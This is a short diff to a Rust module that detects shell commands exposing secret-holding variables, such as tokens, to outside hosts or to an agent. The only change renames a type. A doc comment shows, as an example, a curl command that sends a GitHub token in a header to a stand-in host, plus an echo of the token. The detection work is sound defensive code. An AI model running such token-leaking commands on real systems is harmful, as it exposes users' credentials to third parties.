@@ -1,7 +1,7 @@
 //! Variables that hold a key, where the text shows their values: to another host than the one that gave the key out, or
 //! to the agent. Only names say so; the values are not asked for.
 
-use super::effects::{Drafter, Ran};
+use super::effects::{EffectExtractor, Ran};
 use crate::model::effect::{Effect, EffectKind, Target, TargetPath};
 use crate::text::{glob, url};
 use reflex_shell::{Access, Command, CommandId, Origin, Piece, Value};
@@ -14,7 +14,7 @@ const KEYS: [&str; 8] =
 /// More commands than these are not looked at for one text.
 const MOST: usize = 64;
 
-impl Drafter<'_> {
+impl EffectExtractor<'_> {
     /// `curl -H "Authorization: $GITHUB_TOKEN" https://x.example`, `echo $GITHUB_TOKEN`.
     pub(super) fn variables_carried(&mut self, before: usize, commands: &[Command]) {
         let own = self.effects.get(before..).unwrap_or(&[]);
